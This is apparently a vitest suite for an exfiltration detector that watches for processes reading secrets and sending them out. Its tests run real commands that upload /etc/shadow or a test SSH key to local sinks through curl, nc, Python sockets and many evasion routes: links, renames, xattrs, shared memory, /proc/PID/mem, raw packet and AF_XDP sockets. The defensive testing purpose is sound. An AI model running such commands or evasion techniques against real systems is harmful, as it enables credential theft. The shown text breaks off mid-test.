import { execFileSync, spawn } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runReplay } from '../pipeline/replay-session.js';
import { Finding } from '../schema/finding.js';
import { httpSink, LiveHarness, ofKind, outsideFdReceiver, shellListener, tcpSink } from '../testing/live-harness.js';
import { buildSharedVmExfil, buildXdpExfil, mmapScenario, packetSocketScenario, pidfdGetfdScenario, vmspliceScenario, memoryDropbox, memoryHandoffScenario, mmsgRightsScenario, mqueueScenario, procMemScenario, ptraceScenario, scmRightsScenario, sendfileScenario, sharedMemoryScenario, spliceScenario, sysvShmScenario, tlsServerScenario, udpLeakScenario, unmapPiecewiseScenario } from '../testing/scenarios.js';

/**
 * Read-then-transmit chains with real programs under the real probes, and
 * the look-alikes that must stay quiet. Secrets: /etc/shadow and a test key
 * at DIR/.ssh/id_rsa (class `secret` in rules/data-classes.yaml).
 */
let h: LiveHarness;
let http: Awaited<ReturnType<typeof httpSink>>;
let tcp: Awaited<ReturnType<typeof tcpSink>>;
let dir: string;
let key: string;
const KEY_TEXT = '-----BEGIN OPENSSH PRIVATE KEY-----\nchainwatch-test-key-material\n-----END OPENSSH PRIVATE KEY-----\n';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'cw-flow-'));
  mkdirSync(join(dir, '.ssh'));
  key = join(dir, '.ssh', 'id_rsa');
  writeFileSync(key, KEY_TEXT.repeat(20));
  writeFileSync(join(dir, 'notes.txt'), 'nothing secret here\n'.repeat(20));
  http = await httpSink();
  tcp = await tcpSink();
  // the shipped rules with a 1 s fast window instead of 30 s, so a 2 s pause makes a chain "staged"
  const rules = join(dir, 'rules');
  cpSync(join(import.meta.dirname, '../../rules'), rules, { recursive: true });
  const chains = join(rules, 'chains.yaml');
  const text = readFileSync(chains, 'utf8');
  expect(text).toContain('latency_ns: { gt: 30s }');
  writeFileSync(chains, text.replace('latency_ns: { gt: 30s }', 'latency_ns: { gt: 1s }'));
  h = new LiveHarness('flow', { rulesDir: rules, record: join(dir, 'flow.trace.jsonl.gz') });
  await h.start();
}, 180_000);

afterAll(async () => {
  const summary = await h?.close();
  await http?.close();
  await tcp?.close();
  h?.cleanup();
  expect(summary?.lostEvents).toBe(0);
  expect(summary?.lateEvents, JSON.stringify(summary?.lateSamples)).toBe(0);
}, 120_000);

const url = (): string => `http://127.0.0.2:${http.port}/`;

function only(findings: Finding[]): Finding {
  expect(findings.map((f) => `${f.rule} ${f.source.path} → ${f.sink.address}:${f.sink.port}`)).toHaveLength(1);
  const f = findings[0]!;
  expect(() => Finding.parse(f)).not.toThrow();
  return f;
}

describe('live: read-then-transmit chains', () => {
  it('one process: curl -T /etc/shadow http://127.0.0.2:PORT/', async () => {
    const r = await h.run('curl-T', `curl -s -m 10 -T /etc/shadow ${url()} -o /dev/null`);
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', category: 'exfiltration', source: { path: '/etc/shadow', data_class: 'secret' }, sink: { family: 'inet', address: '127.0.0.2', port: http.port } });
    expect(f.process.comm).toBe('curl');
    expect(f.process.args).toEqual(['curl', '-s', '-m', '10', '-T', '/etc/shadow', url(), '-o', '/dev/null']);
    expect(f.chain[0]).toMatchObject({ object: '/etc/shadow', comm: 'curl' });
    expect(f.chain.at(-1)!.object).toBe(`socket 127.0.0.2:${http.port}`);
    expect(f.latency_ms).toBeGreaterThanOrEqual(0);
    expect(f.coverage.lost_events).toBe(0);
  });

  it('later sends of a chain are reported while the session runs: the updated finding leaves when the sender exits', async () => {
    const r = await h.run(
      'update-at-exit',
      `python3 -c 'import socket, time; d = open("${key}", "rb").read(); s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(d[:100]); time.sleep(0.3); s.sendall(d[100:250]); s.close()'`,
    );
    expect(r.code).toBe(0);
    // two records of one finding: the first send at once, the counters of both at the sender's exit (same id, snapshots)
    expect(r.findings.map((f) => [f.rule, f.sends, f.bytes_sent])).toEqual([
      ['exfil.read-then-transmit', 1, 100],
      ['exfil.read-then-transmit', 2, 250],
    ]);
    expect(r.findings[1]!.id).toBe(r.findings[0]!.id);
    expect(r.findings[1]!.coverage.window_end_ns).toBeGreaterThan(r.findings[0]!.coverage.window_end_ns);
  });

  it('a symlink does not hide the secret: cd DIR; ln -s /etc/shadow notes; curl -T notes (relative path)', async () => {
    const d = join(dir, 'links');
    mkdirSync(d, { recursive: true });
    const r = await h.run('symlink', `cd ${d} && ln -sf /etc/shadow notes && curl -s -m 10 -T notes ${url()} -o /dev/null`);
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f.source).toMatchObject({ path: '/etc/shadow', data_class: 'secret' });
    const open = r.events.find((e) => e.kind === 'file.open' && e.path === 'notes');
    expect(open).toMatchObject({ real_path: '/etc/shadow', abs: { path: join(d, 'notes'), real: '/etc/shadow' } });
  });

  /** A secret key of its own under DIR/NAME/.ssh (a test that renames it leaves the shared one alone). */
  const ownKey = (name: string): { home: string; k: string } => {
    const home = join(dir, name);
    mkdirSync(join(home, '.ssh'), { recursive: true });
    const k = join(home, '.ssh', 'id_ed25519');
    writeFileSync(k, KEY_TEXT);
    return { home, k };
  };

  it('a hard link does not hide the secret: ln KEY DIR/notes.txt; curl -T DIR/notes.txt (the key never opened by its name)', async () => {
    const { home, k } = ownKey('hardlink');
    const alias = join(home, 'notes.txt');
    const r = await h.run('hardlink', `ln ${k} ${alias} && curl -s -m 10 -T ${alias} ${url()} -o /dev/null`);
    expect(r.code, r.stderr).toBe(0);
    // the key is never opened under its own name: only its link is
    expect(ofKind(r.events, 'file.open').filter((e) => e.path === k)).toEqual([]);
    const f = only(r.findings);
    expect(f.rule).toBe('exfil.read-then-transmit');
    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
    expect(f.chain[0]).toMatchObject({ comm: 'curl', syscall: 'read', object: `${alias} (first named ${k})` });
    expect(f.bytes_sent).toBeGreaterThanOrEqual(KEY_TEXT.length);
    const open = ofKind(r.events, 'file.open').find((e) => e.path === alias);
    expect(open).toMatchObject({ abs: { path: alias, aka: k }, res: { ret: { path: alias, aka: k } } });
  });

  it('a rename does not hide the secret: mv KEY DIR/notes.txt; curl -T DIR/notes.txt; mv it back', async () => {
    const { home, k } = ownKey('rename');
    const alias = join(home, 'notes.txt');
    const r = await h.run('rename', `mv ${k} ${alias} && curl -s -m 10 -T ${alias} ${url()} -o /dev/null && mv ${alias} ${k}`);
    expect(r.code, r.stderr).toBe(0);
    const f = only(r.findings);
    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
    expect(f.chain[0]!.object).toBe(`${alias} (first named ${k})`);
  });

  it('a renamed directory does not hide what is in it: mv DIR/.ssh DIR/stuff; curl -T DIR/stuff/id_ed25519', async () => {
    const { home, k } = ownKey('rename-dir');
    const moved = join(home, 'stuff', 'id_ed25519');
    const r = await h.run('rename-dir', `mv ${join(home, '.ssh')} ${join(home, 'stuff')} && curl -s -m 10 -T ${moved} ${url()} -o /dev/null`);
    expect(r.code, r.stderr).toBe(0);
    const f = only(r.findings);
    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
    expect(f.chain[0]!.object).toBe(`${moved} (first named ${k})`);
  });

  it('a file opened by a handle, with no path at all (name_to_handle_at + open_by_handle_at), read, closed and sent: named from the handle', async () => {
    const { k } = ownKey('by-handle');
    const script = `
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]
h = Handle(); h.handle_bytes = 128
mount_id = ctypes.c_int()
if libc.name_to_handle_at(-100, b"${k}", ctypes.byref(h), ctypes.byref(mount_id), 0) != 0:
    raise OSError(ctypes.get_errno(), "name_to_handle_at")
mount_fd = os.open("${dir}", os.O_RDONLY)
fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), os.O_RDONLY)
if fd < 0:
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
data = os.read(fd, 65536)
os.close(fd)
s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.close()
`;
    const r = await h.run('by-handle', `python3 -c '${script}'`);
    expect(r.code, r.stderr).toBe(0);
    // no open of the key by its path: only by the handle, which the probe reports with no path
    expect(ofKind(r.events, 'file.open').filter((e) => e.path === k)).toEqual([]);
    const open = ofKind(r.events, 'file.open').find((e) => e.syscall === 'open_by_handle_at');
    // closed at once: named from the handle it passed (ext4's: the inode and its generation, 8 bytes), opened again by chainwatch
    expect(open).toMatchObject({ path: '', ret: expect.any(Number), handle: { type: 1, bytes: 8 }, real_path: k, abs: { real: k }, res: { ret: { path: k } } });
    const f = only(r.findings.filter((x) => x.rule === 'exfil.read-then-transmit'));
    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
    expect(f.sink).toMatchObject({ address: '127.0.0.2', port: tcp.port });
  });

  it('a reflink clone (cp --reflink=always: ioctl FICLONE, no read or write) of the secret on XFS, uploaded from the clone', async () => {
    // an XFS file system of its own (ext4 shares no extents): a loop-mounted image; no mkfs.xfs (scripts/setup.sh installs xfsprogs) fails loudly
    const img = join(dir, 'xfs.img');
    const mnt = join(dir, 'xfs');
    mkdirSync(mnt);
    execFileSync('truncate', ['-s', '320M', img]);
    execFileSync('mkfs.xfs', ['-q', '-f', img]);
    execFileSync('mount', ['-o', 'loop', img, mnt]);
    try {
      mkdirSync(join(mnt, '.ssh'));
      const k = join(mnt, '.ssh', 'id_ed25519');
      writeFileSync(k, KEY_TEXT);
      writeFileSync(join(mnt, 'report.txt'), 'quarterly numbers\n'.repeat(50));
      const clone = join(mnt, 'notes.txt');
      const r = await h.run('reflink', `cp --reflink=always ${k} ${clone} && curl -s -m 10 -T ${clone} ${url()} -o /dev/null`);
      expect(r.code, r.stderr).toBe(0);
      const x = ofKind(r.events, 'io.xfer').find((e) => e.syscall === 'ioctl');
      expect(x).toMatchObject({ bytes: KEY_TEXT.length, res: { fd_in: { path: k }, fd_out: { path: clone } } });
      const f = only(r.findings);
      expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
      expect(f.chain.map((c) => [c.comm, c.syscall])).toEqual([['cp', 'ioctl'], ['cp', 'ioctl'], ['curl', 'read'], ['curl', 'sendto']]);
      // a range clone (ioctl FICLONERANGE, length 0: to the end), by a program of its own, then uploaded
      const ranged = join(mnt, 'range.txt');
      const py = `import fcntl, os, struct; s = os.open("${k}", os.O_RDONLY); d = os.open("${ranged}", os.O_WRONLY | os.O_CREAT, 0o600); fcntl.ioctl(d, 0x4020940d, struct.pack("qQQQ", s, 0, 0, 0))`;
      const rr = await h.run('reflink-range', `python3 -c '${py}' && curl -s -m 10 -T ${ranged} ${url()} -o /dev/null`);
      expect(rr.code, rr.stderr).toBe(0);
      expect(ofKind(rr.events, 'io.xfer').find((e) => e.syscall === 'ioctl')).toMatchObject({ bytes: KEY_TEXT.length, res: { fd_in: { path: k }, fd_out: { path: ranged } } });
      expect(only(rr.findings).source).toMatchObject({ path: k, data_class: 'secret' });
      // must not fire: a clone of an ordinary file, sent
      const plain = await h.run('reflink-plain', `cp --reflink=always ${join(mnt, 'report.txt')} ${join(mnt, 'copy.txt')} && curl -s -m 10 -T ${join(mnt, 'copy.txt')} ${url()} -o /dev/null`);
      expect(plain.code, plain.stderr).toBe(0);
      expect(ofKind(plain.events, 'io.xfer').filter((e) => e.syscall === 'ioctl')).toHaveLength(1);
      expect(plain.findings).toEqual([]);
    } finally {
      execFileSync('umount', [mnt]);
    }
  });

  it('staging through an extended attribute: one process puts the secret in an xattr (path and descriptor calls), another takes it out and sends it', async () => {
    const d = join(dir, 'xattr');
    mkdirSync(d, { recursive: true });
    const stage = join(d, 'notes.txt');
    writeFileSync(stage, 'nothing here\n');
    const put = `import os; d = open("${key}", "rb").read(); os.setxattr("${stage}", "user.a", d[:300]); f = os.open("${stage}", os.O_RDONLY); os.setxattr(f, "user.b", d[300:600])`;
    const take = `import os, socket; f = os.open("${stage}", os.O_RDONLY); d = os.getxattr("${stage}", "user.a") + os.getxattr(f, "user.b"); s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(d); s.close()`;
    const r = await h.run('xattr', `python3 -c '${put}' && python3 -c '${take}'`);
    expect(r.code, r.stderr).toBe(0);
    const xa = ofKind(r.events, 'file.xattr').map((e) => [e.syscall, e.op, e.bytes, e.obj !== null]);
    expect(xa).toEqual([['setxattr', 'set', 300, true], ['fsetxattr', 'set', 300, true], ['getxattr', 'get', 300, true], ['fgetxattr', 'get', 300, true]]);
    const f = only(r.findings);
    expect(f.source).toMatchObject({ path: key, data_class: 'secret' });
    expect(f.chain.map((c) => c.syscall)).toEqual(['read', 'setxattr', 'getxattr', 'sendto']);
    expect(f.chain[1]!.object).toBe(`xattr of ${stage}`);
  });

  it('must not fire: the extended attributes of a secret file are not the secret (set by a process that read nothing, read and sent by another)', async () => {
    const { k } = ownKey('xattr-own');
    const r = await h.run('xattr-own', `python3 -c 'import os; os.setxattr("${k}", "user.note", b"rotate me monthly")' && python3 -c 'import os, socket; d = os.getxattr("${k}", "user.note"); s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(d); s.close()'`);
    expect(r.code, r.stderr).toBe(0);
    expect(ofKind(r.events, 'file.xattr')).toHaveLength(2);
    expect(r.findings).toEqual([]);
  });

  it('must not fire: a hard link of an ordinary file, sent', async () => {
    const d = join(dir, 'plain-link');
    mkdirSync(d, { recursive: true });
    writeFileSync(join(d, 'report.txt'), 'quarterly numbers\n'.repeat(50));
    const r = await h.run('plain-link', `ln ${join(d, 'report.txt')} ${join(d, 'copy.txt')} && curl -s -m 10 -T ${join(d, 'copy.txt')} ${url()} -o /dev/null`);
    expect(r.code, r.stderr).toBe(0);
    expect(r.findings).toEqual([]);
  });

  it('a pipeline: cat secret | gzip | nc 127.0.0.2 PORT (three processes joined by pipes)', async () => {
    const r = await h.run('pipeline', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`);
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f.source.path).toBe(key);
    expect(f.process.comm).toBe('nc');
    // (once seen in CI without args: the message holds what the state had, to tell a late argv from a lost one)
    const execs = r.events.filter((e) => e.kind === 'process.exec' && e.pid === f.process.pid);
    expect(f.process.args, JSON.stringify({ execs, updates: r.findings.map((x) => [x.id, x.process.args, x.ts_ns]) })).toEqual(['nc', '-N', '127.0.0.2', String(tcp.port)]);
    // the shell that ran the pipeline started nc
    expect(f.process.ancestors![0]).toMatchObject({ pid: f.process.ppid, comm: 'bash', args: ['/bin/bash', '-c', `cat ${key} | gzip | nc -N 127.0.0.2 ${tcp.port}`] });
    expect(new Set(f.chain.map((h) => h.comm))).toEqual(new Set(['cat', 'gzip', 'nc']));
    expect(f.summary).toContain('through 3 processes');
  });

  it('staging through a file: cp secret /tmp/x … 2 s later … curl --data-binary @/tmp/x by another process', async () => {
    const staged = join(dir, 'staged.bin');
    const r = await h.run('staged', `cp ${key} ${staged}; sleep 2; curl -s -m 10 --data-binary @${staged} ${url()} -o /dev/null`);
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f.rule).toBe('exfil.staged');
    expect(f.source.path).toBe(key);
    expect(f.chain.some((h) => h.object === staged)).toBe(true);
    expect(new Set(f.chain.map((h) => h.comm))).toEqual(new Set(['cp', 'curl']));
    expect(f.latency_ms).toBeGreaterThan(1900);
  });

  it('descriptor passing: A opens the secret and passes the fd over a unix socket; B reads and sends it', async () => {
    const sock = join(dir, 'pass.sock');
    const r = await h.run('scm-rights', scmRightsScenario(sock, key, tcp.port));
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f.source.path).toBe(key);
    // the receiver never opened the file: its read resolved through the passed descriptor
    const receiver = f.process.pid;
    const opens = r.events.filter((e) => e.kind === 'file.open' && e.pid === receiver && e.path === key);
    expect(opens).toEqual([]);
  });

  it('in-kernel copy: sendfile from the secret into a socket', async () => {
    const r = await h.run('sendfile', sendfileScenario(key, tcp.port));
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f.chain.map((h) => h.syscall)).toEqual(['sendfile', 'sendfile']);
    expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
  });

  it('in-kernel copy: splice from the secret into a pipe, and from the pipe into a socket', async () => {
    const r = await h.run('splice', spliceScenario(key, tcp.port));
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f.source.path).toBe(key);
    expect(f.chain.every((x) => x.syscall === 'splice')).toBe(true);
    expect(f.chain[0]!.object).toBe(key);
    expect(f.chain.at(-1)!.object).toBe(`socket 127.0.0.2:${tcp.port}`);
    expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
  });

  it('no read(2) at all: the secret mapped into memory (mmap), the descriptor closed, the mapping sent', async () => {
    const r = await h.run('mmap', mmapScenario(key, tcp.port));
    expect(r.code).toBe(0);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
    expect(f.chain.map((x) => x.syscall)).toEqual(['mmap', 'sendto']);
    expect(f.chain[0]!.object).toBe(key);
    // the mapped length is what was read
    expect(f.bytes_read).toBe(KEY_TEXT.length * 20);
    expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
  });

  it('shared memory, no syscall between them: a forked child that never opens the secret takes it from an anonymous shared mapping its parent filled later, and sends it', async () => {
    const r = await h.run('shm-anon', sharedMemoryScenario(key, tcp.port, { mode: 'anon' }));
    expect(r.code, r.stderr).toBe(0);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
    const hops = f.chain.map((x) => x.syscall);
    expect(hops).toEqual(['read', 'mapped.write', 'mapped.read', 'sendto']);
    const [read, write, take, send] = f.chain;
    // the parent read and wrote, the child (forked before the read) took and sent
    expect(write!.pid).toBe(read!.pid);
    expect(take!.pid).toBe(send!.pid);
    expect(send!.pid).not.toBe(read!.pid);
    expect(write!.object).toMatch(/^shm 0:0:\d+$/);
    expect(take!.object).toBe(write!.object);
    expect(f.process.pid).toBe(send!.pid);
    expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
    // the anonymous mapping (glibc's iconv also maps its module cache shared, read-only, in most programs)
    const anon = r.events.filter((e) => e.kind === 'mem.map' && e.fd === -1 && e.pid === read!.pid);
    expect(anon).toHaveLength(1);
    expect(anon[0]).toMatchObject({ obj: null, len: 1 << 16, res: { fd: { type: 'shm', id: write!.object.slice(4) } } });
  });

  it('shared memory staging: the secret copied into a file mapped shared (no write(2)), unmapped, and the file uploaded by curl', async () => {
    const stage = join(dir, 'stage-mapped.bin');
    const r = await h.run('shm-file', sharedMemoryScenario(key, http.port, { mode: 'file', stage }));
    expect(r.code, r.stderr).toBe(0);
    // curl sends the 64 KiB stage after its headers: the finding's update has the whole of it
    const f = only([...new Map(r.findings.map((x) => [x.id, x])).values()]);
    expect(f.bytes_sent).toBeGreaterThan(1 << 16);
    expect(f).toMatchObject({ source: { path: key }, sink: { address: '127.0.0.2', port: http.port } });
    const write = f.chain.find((x) => x.syscall === 'mapped.write');
    expect(write?.object).toBe(stage);
    // then curl reads the stage and sends
    const after = f.chain.slice(f.chain.indexOf(write!) + 1);
    expect(after[0]).toMatchObject({ object: stage, comm: 'curl' });
    expect(after.at(-1)).toMatchObject({ object: `socket 127.0.0.2:${http.port}`, comm: 'curl' });
    expect(r.events.some((e) => e.kind === 'mem.unmap' && e.pid === write!.pid)).toBe(true);
  });

  it('System V shared memory between unrelated processes: one puts the secret in a segment and exits, a later one attaches it read-only and sends it', async () => {
    for (const readFirst of [false, true]) {
      const r = await h.run(`sysv-shm-${readFirst}`, sysvShmScenario(key, tcp.port, 0x43570000 + tcp.port + (readFirst ? 1 : 0), { readFirst }));
      expect(r.code, r.stderr).toBe(0);
      const f = only(r.findings);
      expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
      expect(f.chain.map((x) => x.syscall)).toEqual(['read', 'mapped.write', 'mapped.read', 'sendto']);
      const [read, write, take, send] = f.chain;
      expect(write!.pid).toBe(read!.pid);
      expect([take!.pid, send!.pid]).toEqual([f.process.pid, f.process.pid]);
      expect(send!.pid).not.toBe(read!.pid);
      expect(take!.object).toBe(write!.object);
      // both attached the one segment (same id in the same IPC namespace); the reader read-only, both detached
      const attach = r.events.filter((e) => e.kind === 'mem.map' && e.shmid !== undefined);
      expect(attach.map((e) => e.kind === 'mem.map' && [e.pid, e.prot, e.res?.fd?.id])).toEqual([
        [read!.pid, 3, write!.object.slice(4)],
        [send!.pid, 1, write!.object.slice(4)],
      ]);
      expect(r.events.filter((e) => e.kind === 'mem.unmap' && e.len === 0).map((e) => e.pid)).toEqual([read!.pid, send!.pid]);
      expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
    }
  });

  it('a child in its parent\'s memory (vfork; clone with CLONE_VM) reads the secret; the parent, which never opens it, sends what the child left', async () => {
    const bin = buildSharedVmExfil(dir);
    for (const mode of ['vfork', 'clonevm']) {
      const r = await h.run(`shared-vm-${mode}`, `${bin} ${mode} ${key} ${tcp.port}`);
      expect(r.code, r.stderr).toBe(0);
      const f = only(r.findings);
      expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
      const [read, write, take, send] = f.chain;
      expect(f.chain.map((x) => x.syscall)).toEqual(['read', 'mapped.write', 'mapped.read', 'write']);
      expect(take!.pid).toBe(send!.pid);
      expect(write!.pid).toBe(read!.pid);
      expect(read!.pid).not.toBe(send!.pid);
      expect(write!.object).toBe(`memory of pid ${send!.pid}`);
      const fork = r.events.find((e) => e.kind === 'process.fork' && e.child_tid === read!.pid);
      expect(fork?.kind === 'process.fork' && fork.clone_flags & 0x100).toBe(0x100);
      expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
    }
  });

  it('a descriptor of the secret taken out of another process (pidfd_getfd), read and sent by a process that never opened it', async () => {
    const r = await h.run('pidfd-getfd', pidfdGetfdScenario(key, tcp.port));
    expect(r.code, r.stderr).toBe(0);
    const [target] = r.stdout.trim().split(' ').map(Number);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
    expect(f.chain.map((x) => [x.syscall, x.object])).toEqual([['read', key], ['sendto', `socket 127.0.0.2:${tcp.port}`]]);
    expect(f.process.pid).not.toBe(target);
    expect(r.events.some((e) => e.kind === 'fd.getfd' && e.target === target && e.res?.ret?.path === key)).toBe(true);
  });

  it('vmsplice: the secret moved from memory into a pipe (and out of one into memory) by vmsplice(2), sent by the process at the other end', async () => {
    for (const [way, hops] of [
      ['into', ['read', 'vmsplice', 'read', 'sendto']],
      ['outOf', ['read', 'write', 'vmsplice', 'sendto']],
    ] as const) {
      const r = await h.run(`vmsplice-${way}`, vmspliceScenario(key, tcp.port, way));
      expect(r.code, r.stderr).toBe(0);
      const f = only(r.findings);
      expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
      expect(f.chain.map((x) => x.syscall), way).toEqual(hops);
      expect(f.chain[1]!.object).toMatch(/^pipe /);
      expect(f.chain[2]!.object).toBe(f.chain[1]!.object);
      expect(f.bytes_sent).toBe(KEY_TEXT.length * 20);
    }
  });

  it('raw frames: the secret sent in an Ethernet frame on a packet socket (AF_PACKET, no IP socket at all)', async () => {
    const r = await h.run('packet-socket', packetSocketScenario(key));
    expect(r.code, r.stderr).toBe(0);
    expect(Number(r.stdout.trim())).toBe(14 + KEY_TEXT.length * 20);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { family: 'packet' }, bytes_sent: 14 + KEY_TEXT.length * 20 });
    expect(f.chain.map((x) => x.syscall)).toEqual(['read', 'sendto']);
    expect(f.summary).toMatch(/to a packet socket \(raw frames\), object 0:\d+:\d+/);
  });

  it("AF_XDP: the secret read into the socket's registered memory leaves as a frame through a mapped TX ring, with a zero-byte sendto (no write of the data at all)", async () => {
    const bin = buildXdpExfil(dir);
    const r = await h.run('xdp-exfil', `${bin} ${key} lo`);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.trim()).toBe(`sent ${KEY_TEXT.length * 20} bytes`);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { family: 'xdp' }, bytes_sent: 0 });
    expect(f.chain.map((x) => x.syscall)).toEqual(['read', 'mapped.send']);
    // the TX and completion rings: shared mappings of the socket, writable (what the policy checks as the send)
    const rings = r.events.filter((e) => e.kind === 'mem.map' && e.res?.fd?.family === 'xdp');
    expect(rings.map((e) => e.kind === 'mem.map' && e.prot)).toEqual([3, 3]);
    expect(f.summary).toMatch(/to an AF_XDP socket \(raw frames\), object 0:\d+:\d+, through the socket's memory mapped into its own/);
  });

  it('mmap with high bits set in the descriptor (the kernel ignores them) is still seen', async () => {
    const r = await h.run('mmap-high-fd', mmapScenario(key, tcp.port, { highBits: true }));
    expect(r.code, r.stderr).toBe(0);
    const f = only(r.findings);
    expect(f.chain[0]).toMatchObject({ syscall: 'mmap', object: key });
  });

  it("another process' memory: a process that never opens the secret finds it in the memory of one that read it (/proc/PID/mem) and sends it", async () => {
    const r = await h.run('proc-mem', procMemScenario(key, tcp.port));
    expect(r.code, r.stderr).toBe(0);
    expect(Number(r.stdout.trim())).toBe(64);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key }, sink: { address: '127.0.0.2', port: tcp.port } });
    const [read, viaMemory, send] = [f.chain[0]!, f.chain.at(-2)!, f.chain.at(-1)!];
    expect(read).toMatchObject({ object: key, comm: 'python3' });
    expect(viaMemory.object).toBe(`/proc/${read.pid}/mem`);
    expect(viaMemory.pid).not.toBe(read.pid);
    expect(send).toMatchObject({ pid: viaMemory.pid, object: `socket 127.0.0.2:${tcp.port}` });
  });

  it("another process' memory read with process_vm_readv (no descriptor at all) and sent", async () => {
    const r = await h.run('process-vm', procMemScenario(key, tcp.port, 'process_vm_readv'));
    expect(r.code, r.stderr).toBe(0);
    expect(Number(r.stdout.trim())).toBe(64);
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key } });
    const [read, viaMemory, send] = [f.chain[0]!, f.chain.at(-2)!, f.chain.at(-1)!];
    expect(viaMemory).toMatchObject({ syscall: 'process_vm_readv', object: `memory of pid ${read.pid}`, fd: -1 });
    expect(send).toMatchObject({ pid: viaMemory.pid, object: `socket 127.0.0.2:${tcp.port}` });
  });

  it('a POSIX message queue between two processes: one reads the secret and sends it as a message, the other receives and sends it', async () => {
    const r = await h.run('mqueue', mqueueScenario(key, tcp.port));
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.trim()).toBe('100');
    const f = only(r.findings);
    expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key, data_class: 'secret' }, sink: { address: '127.0.0.2', port: tcp.port } });
    const queue = ofKind(r.events, 'file.open').find((e) => e.syscall === 'mq_open')!;
    expect(queue.path).toMatch(/^\/dev\/mqueue\/cwq\d+$/);
    expect(f.chain.map((c) => [c.syscall, c.object])).toEqual([
      ['read', key],
      ['mq_timedsend', queue.path],
      ['mq_timedreceive', queue.path],
      [expect.stringMatching(/^send/), `socket 127.0.0.2:${tcp.port}`],
    ]);
    expect(f.chain[1]!.pid).not.toBe(f.chain[2]!.pid);
  });

  it('must not fire: a message queue that carries no secret', async () => {
    const r = await h.run('mqueue-benign', mqueueScenario(join(dir, 'notes.txt'), tcp.port));
    expect(r.code, r.stderr).toBe(0);
    expect(ofKind(r.events, 'io').filter((e) => e.syscall === 'mq_timedreceive')).toHaveLength(1);
    expect(r.findings).toEqual([]);
  });

  for (const via of ['process_vm_writev', 'proc-mem'] as const) {
    it(`a secret written into the memory of a process outside the watch (${via}) has left the task`, async () => {
      const box = memoryDropbox();
      try {
        const { pid, addr } = await box.pid;
        const r = await h.run(`memory-out-${via}`, memoryHandoffScenario(key, pid, addr, via));
        expect(r.code, r.stderr).toBe(0);
        expect(Number(r.stdout.trim())).toBe(64);
        // the bytes really are in the other process now
        expect(await box.contents()).toBe(KEY_TEXT.slice(0, 64));
        const f = only(r.findings);
        expect(f).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: key, data_class: 'secret' }, sink: { path: `memory of pid ${pid}, outside the watch` }, bytes_sent: 64 });
        expect(f.chain.at(-1)).toMatchObject(via === 'proc-mem' ? { syscall: 'write', object: `/proc/${pid}/mem` } : { syscall: 'process_vm_writev', object: `memory of pid ${pid}`, fd: -1 });
      } finally {
        box.kill();
      }
    });
  }

  it('must not fire: a secret written into the memory of a process of the same task (its own child)', async () => {
    const r = await h.run(
      'memory-in-task',
      `python3 -c 'import ctypes, os, sys, time; buf = ctypes.create_string_buffer(4096); print(os.getpid(), ctypes.addressof(buf), flush=True); time.sleep(30)' > $TMPDIR/box.txt &
box=$!
until [ -s $TMPDIR/box.txt ]; do sleep 0.05; done
read pid addr < $TMPDIR/box.txt
${memoryHandoffScenario(key, '$pid', '$addr', 'process_vm_writev')}
kill $box
wait`,
      { TMPDIR: mkdtempSync(join(tmpdir(), 'cw-box-')) },
    );
    expect(r.code, r.stderr).toBe(0);
